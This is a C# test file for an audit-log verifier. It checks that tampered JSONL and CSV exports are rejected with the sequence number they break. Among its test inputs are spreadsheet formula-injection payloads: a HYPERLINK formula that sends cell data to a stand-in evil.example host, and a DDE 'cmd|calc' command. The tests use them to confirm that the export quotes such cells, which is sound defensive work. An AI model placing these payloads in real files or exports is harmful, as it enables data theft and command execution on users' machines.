using System.Text.RegularExpressions;
using ChronoGuard.Sidecar.Cli;
using ChronoGuard.Tests.Support;

namespace ChronoGuard.Tests.Audit;

/// <summary>
/// What a person or grep reads must be what was hashed: every shape a reader would misread is invalid
/// (exit 1) with the seq it breaks, in a plain sentence; exit 2 is left for usage and I/O.
/// </summary>
public sealed partial class StrictVerifierTests
{
    private static (int Code, string Output) Verify(params string[] args)
    {
        var stdout = new StringWriter();
        var stderr = new StringWriter();
        var code = VerifyCommand.Run(args, stdout, stderr);
        return (code, stdout.ToString() + stderr);
    }

    private static string Export(TempDir dir, int count = 20)
    {
        var lines = AuditTestData.WriteAndExport(dir, count);
        var file = dir.File("export.jsonl");
        File.WriteAllLines(file, lines);
        return file;
    }

    private static void Edit(string file, int line, Func<string, string> edit)
    {
        var lines = File.ReadAllLines(file);
        var changed = edit(lines[line]);
        Assert.NotEqual(lines[line], changed);
        lines[line] = changed;
        File.WriteAllLines(file, lines);
    }

    public static TheoryData<string, string, string> Misreadings => new()
    {
        // name, regex on the line (first match replaced), replacement
        { "time moved to 2020", "\"time\":\"\\d{4}", "\"time\":\"2020" },
        { "duplicated key, the first copy is what grep sees", "\"host\":", "\"host\":\"evil.example\",\"host\":" },
        { "unknown key", "\"kind\":", "\"note\":\"x\",\"kind\":" },
        { "fraction", "\"port\":443", "\"port\":443.0" },
        { "exponent", "\"status\":(\\d+)", "\"status\":2e2" },
        { "number as string", "\"port\":443", "\"port\":\"443\"" },
        { "string as number", "\"agent\":\"[^\"]*\"", "\"agent\":7" },
        { "null", "\"rule\":\"\"", "\"rule\":null" },
        { "bool as number", "\"enforced\":true", "\"enforced\":1" },
        { "unknown kind", "\"kind\":\"[a-z]+\"", "\"kind\":\"decisions\"" },
        { "unknown identity", "\"identity\":\"[a-z]*\"", "\"identity\":\"root\"" },
        { "unknown format", "\"format\":2", "\"format\":3" },
        { "format 1 line carrying a format 2 field", ",\"format\":2", "" },
        { "missing field", ",\"bytesUp\":\\d+", "" },
        { "cut line", ",\"prevHash\".*$", ",\"prevHash\":\"00" },
        { "not JSON", "^\\{", "[" },
        { "nested value", "\"path\":\"[^\"]*\"", "\"path\":{\"a\":1}" },
        { "uppercase hash", "\"hash\":\"([0-9a-f]{4})", "\"hash\":\"ABCD" },
        { "out of range int32", "\"port\":443", "\"port\":4294967296" },
        { "text after the record", "\\}$", "} {}" },
    };

    [Theory]
    [MemberData(nameof(Misreadings))]
    public void A_line_a_reader_would_misread_is_invalid_with_its_seq_in_a_plain_sentence(string name, string pattern, string replacement)
    {
        using var dir = new TempDir();
        var file = Export(dir);
        Assert.Equal(0, Verify("--jsonl", file).Code);
        Edit(file, 7, l => new Regex(pattern).Replace(l, replacement, 1));

        var (code, output) = Verify("--jsonl", file);
        Assert.True(code == 1, $"{name}: exit {code}: {output}");
        Assert.StartsWith("invalid: seq 7: line 8: ", output, StringComparison.Ordinal);
        Assert.Contains("(last good seq 6, 7 records verified before it)", output, StringComparison.Ordinal);
        Assert.DoesNotMatch(ResourceKey(), output);
        Assert.DoesNotContain("Exception", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Time_is_checked_against_ts_to_the_last_digit()
    {
        using var dir = new TempDir();
        var file = Export(dir);
        Edit(file, 3, l => TimeFraction().Replace(l, m => m.Value[..^2] + (m.Value[^2] == '9' ? '0' : (char)(m.Value[^2] + 1)) + "Z", 1));
        var (code, output) = Verify("--jsonl", file);
        Assert.Equal(1, code);
        Assert.Contains("does not render ts", output, StringComparison.Ordinal);

        // time is omitted only where ts has no calendar rendering (SPEC §5): a line without it would be
        // missed by whoever sorts or filters by time, so it is invalid, in JSONL and in CSV alike.
        using var other = new TempDir();
        var fresh = Export(other);
        Edit(fresh, 3, l => Regex.Replace(l, "\"time\":\"[^\"]*\",", string.Empty));
        var missing = Verify("--jsonl", fresh);
        Assert.Equal(1, missing.Code);
        Assert.StartsWith("invalid: seq 3: line 4: time is missing (ts ", missing.Output, StringComparison.Ordinal);

        var csv = other.File("export.csv");
        Assert.Equal(0, ExportCommand.Run(["--audit-dir", other.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
        Edit(csv, 4, l => Regex.Replace(l, "^(\\d+,\\d+,)[^,]*,", "$1,"));
        var missingCell = Verify("--csv", csv);
        Assert.Equal(1, missingCell.Code);
        Assert.StartsWith("invalid: seq 3: line 5: column time is missing (ts ", missingCell.Output, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    [InlineData("+cmd|'calc'!A0")]
    [InlineData("-1+1")]
    [InlineData("@SUM(A1:A9)")]
    [InlineData("\t=1+1")]
    [InlineData("\r=1+1")]
    [InlineData("'already quoted")]
    [InlineData("''=1")]
    [InlineData("'")]
    public void A_csv_cell_a_spreadsheet_would_run_is_quoted_and_verify_csv_reads_it_back_exactly(string value)
    {
        using var dir = new TempDir();
        var options = new ChronoGuard.Audit.AuditOptions { Directory = dir.File("audit"), QueueCapacity = 64 };
        using (var writer = ChronoGuard.Audit.AuditWriter.Open(options, TimeProvider.System))
        {
            var r = default(ChronoGuard.Audit.AuditRecord);
            r.Kind = ChronoGuard.Audit.AuditKind.Decision;
            r.Set(ChronoGuard.Audit.AuditText.Agent, value);
            r.Set(ChronoGuard.Audit.AuditText.Method, value);
            r.Set(ChronoGuard.Audit.AuditText.Host, "plain.example");
            writer.Append(ref r);
        }

        var csv = dir.File("export.csv");
        Assert.Equal(0, ExportCommand.Run(["--audit-dir", dir.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
        var row = ChronoGuard.Audit.AuditJson.SplitCsv(File.ReadAllText(csv).Split('\n')[1])!;
        var header = ChronoGuard.Audit.AuditJson.Columns;
        var recorded = ChronoGuard.Audit.AuditReader.ReadDirectory(dir.File("audit")).Single().Entry!;
        var readBack = ChronoGuard.Audit.AuditReader.ReadCsv(csv).Single().Entry!;
        Assert.Equal(value, recorded.Agent);
        Assert.Equal("'" + value, row[Array.IndexOf(header, "agent")]);
        Assert.Equal("'" + recorded.Method, row[Array.IndexOf(header, "method")]);
        Assert.Equal("plain.example", row[Array.IndexOf(header, "host")]);
        Assert.Equal(recorded.Agent, readBack.Agent);
        Assert.Equal(recorded.Method, readBack.Method);
        var verified = Verify("--csv", csv);
        Assert.True(verified.Code == 0, verified.Output);
        Assert.Equal(Verify("--audit-dir", dir.File("audit")).Output, verified.Output);
    }

    [Theory]
    [InlineData("'plain")]
    [InlineData("'")]
    public void A_leading_quote_the_export_never_writes_is_invalid_in_verify_csv(string cell)
    {
        using var dir = new TempDir();
        AuditTestData.WriteAndExport(dir, 5);
        var csv = dir.File("export.csv");
        Assert.Equal(0, ExportCommand.Run(["--audit-dir", dir.File("audit"), "--format", "csv", "--out", csv], new StringWriter(), new StringWriter()));
        Edit(csv, 3, l => l.Replace(",bot-2,", "," + cell + ",", StringComparison.Ordinal));

        var (code, output) = Verify("--csv", csv);
        Assert.Equal(1, code);
        Assert.StartsWith("invalid: seq 2: line 4: column agent begins with ' that an export does not write", output, StringComparison.Ordinal);
    }

    [Fact]
    public void Gaps_duplicates_and_reorderings_report_the_seq_that_belongs_there()
    {
        using var dir = new TempDir();
        var file = Export(dir);
        var lines = File.ReadAllLines(file);

        File.WriteAllLines(file, [.. lines[..5], .. lines[7..]]);
        var gap = Verify("--jsonl", file);
        Assert.Equal(1, gap.Code);
        Assert.StartsWith("invalid: seq 5: line 6: missing: the next record is seq 7 (a gap of 2) (last good seq 4,", gap.Output, StringComparison.Ordinal);

        File.WriteAllLines(file, [.. lines[..5], lines[4], .. lines[5..]]);
        var duplicate = Verify("--jsonl", file);
        Assert.Equal(1, duplicate.Code);
        Assert.StartsWith("invalid: seq 5: line 6: seq 4 appears where seq 5 belongs (a duplicate or reordered record) (last good seq 4,", duplicate.Output, StringComparison.Ordinal);

        File.WriteAllLines(file, [.. lines[..5], lines[6], lines[5], .. lines[7..]]);
        var reordered = Verify("--jsonl", file);
        Assert.Equal(1, reordered.Code);
        Assert.StartsWith("invalid: seq 5: line 6: missing: the next record is seq 6", reordered.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void Expect_head_is_proven_or_fails_truncation_rewrite_and_a_head_older_than_the_kept_log()
    {
        using var dir = new TempDir();
        var file = Export(dir);
        var lines = File.ReadAllLines(file);
        string Head(int i) => $"{i}:{Regex.Match(lines[i], "\"hash\":\"([0-9a-f]{64})\"").Groups[1].Value}";

        Assert.Equal(0, Verify("--jsonl", file, "--expect-head", Head(10)).Code);
        var truncated = dir.File("truncated.jsonl");
        File.WriteAllLines(truncated, lines[..15]);
        var t = Verify("--jsonl", truncated, "--expect-head", Head(19));
        Assert.Equal(1, t.Code);
        Assert.StartsWith("invalid: seq 15: truncation: the chain ends at seq 14, --expect-head is at seq 19", t.Output, StringComparison.Ordinal);

        var wrong = Head(10)[..^4] + "0000";
        var w = Verify("--jsonl", file, "--expect-head", wrong);
        Assert.Equal(1, w.Code);
        Assert.StartsWith("invalid: seq 10: line 11: hash differs from --expect-head", w.Output, StringComparison.Ordinal);

        // Only the tail kept (as after retention): a head just before it is proven by its prevHash,
        // an older one cannot be and fails instead of being skipped.
        var kept = dir.File("kept.jsonl");
        File.WriteAllLines(kept, lines[12..]);
        var ok = Verify("--jsonl", kept, "--expect-head", Head(11));
        Assert.Equal(0, ok.Code);
        Assert.Contains("(from seq 12:", ok.Output, StringComparison.Ordinal);
        var older = Verify("--jsonl", kept, "--expect-head", Head(5));
        Assert.Equal(1, older.Code);
        Assert.Contains("--expect-head seq 5 precedes the first kept record (seq 12)", older.Output, StringComparison.Ordinal);
        var rewritten = Verify("--jsonl", kept, "--expect-head", Head(11)[..^4] + "0000");
        Assert.Equal(1, rewritten.Code);
        Assert.Contains("the first kept record's prevHash does not match --expect-head", rewritten.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void Verify_csv_checks_a_csv_export_of_either_format_and_finds_an_edit()
    {
        using var dir = new TempDir();
        AuditTestData.WriteAndExport(dir, 30);
        var csv = dir.File("export.csv");
        var stdout = new StringWriter();
        Assert.Equal(0, ExportCommand.Run(["--audit-dir", dir.File("audit"), "--format", "csv", "--out", csv], stdout, new StringWriter()));

        var valid = Verify("--csv", csv);
        Assert.Equal(0, valid.Code);
        Assert.StartsWith("valid: 30 records, head 29:", valid.Output, StringComparison.Ordinal);
        Assert.Equal(Verify("--audit-dir", dir.File("audit")).Output, valid.Output);

        var lines = File.ReadAllLines(csv);
        lines[13] = lines[13].Replace("h12.example.org", "h12.example.orh", StringComparison.Ordinal);
        File.WriteAllLines(csv, lines);
        var edited = Verify("--csv", csv);
        Assert.Equal(1, edited.Code);
        Assert.StartsWith("invalid: seq 12: line 14: hash mismatch", edited.Output, StringComparison.Ordinal);

        lines = File.ReadAllLines(csv);
        lines[5] = lines[5][..40];
        File.WriteAllLines(csv, lines);
        var cut = Verify("--csv", csv);
        Assert.Equal(1, cut.Code);
        Assert.StartsWith("invalid: seq 4: line 6:", cut.Output, StringComparison.Ordinal);

        // A CSV exported before format 2 (21 columns) is still verifiable.
        var v1 = Verify("--csv", Path.Combine(AuditFixtures.V1, "v1.csv"));
        Assert.Equal(0, v1.Code);
        Assert.StartsWith("valid: 12 records, head 11:" + AuditFixtures.V1Head, v1.Output, StringComparison.Ordinal);
    }

    [Fact]
    public void A_format_1_log_written_before_format_2_verifies_as_a_directory_and_as_exports()
    {
        using var dir = new TempDir();
        var audit = AuditFixtures.CopyV1Directory(dir);
        foreach (var args in new[] { new[] { "--audit-dir", audit }, ["--jsonl", Path.Combine(AuditFixtures.V1, "v1.jsonl")], ["--csv", Path.Combine(AuditFixtures.V1, "v1.csv")] })
        {
            var (code, output) = Verify(args);
            Assert.True(code == 0, output);
            Assert.StartsWith("valid: 12 records, head 11:" + AuditFixtures.V1Head, output, StringComparison.Ordinal);
        }

        // Its export today is byte for byte the export made by the format 1 binary.
        Assert.Equal(File.ReadAllLines(Path.Combine(AuditFixtures.V1, "v1.jsonl")), AuditTestData.Export(audit));
    }

    [Fact]
    public void Usage_and_unreadable_files_are_exit_2_in_one_line()
    {
        Assert.Equal(2, Verify("--jsonl").Code);
        Assert.Equal(2, Verify("--jsonl", "a", "--csv", "b").Code);
        Assert.Equal(2, Verify("--jsonl", "x.jsonl", "--expect-head", "5:abc").Code);
        Assert.Equal(2, Verify("--jsonl", "x.jsonl", "--checkpoints", "c").Code);
        var missing = Verify("--jsonl", "/nonexistent/export.jsonl");
        Assert.Equal(2, missing.Code);
        Assert.Equal("verify: /nonexistent/export.jsonl: no such file", missing.Output.Trim());
    }

    [GeneratedRegex(@"\b(Arg|IO|Format)_[A-Za-z]+")]
    private static partial Regex ResourceKey();

    [GeneratedRegex(@"\.\d{7}Z")]
    private static partial Regex TimeFraction();
}
